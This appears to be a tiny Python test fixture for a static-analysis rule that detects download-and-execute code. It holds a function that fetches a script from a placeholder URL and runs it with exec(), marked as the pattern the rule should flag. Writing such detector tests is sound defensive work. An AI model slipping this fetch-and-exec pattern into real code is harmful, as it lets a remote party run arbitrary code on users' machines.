import requests

PLUGIN = "https://example.com/plugin.py"


def load_plugin():
    # ruleid: yara.download_exec.python_fetch_exec
    source = requests.get(PLUGIN, timeout=10).text
    namespace = {}
    exec(source, namespace)
    return namespace
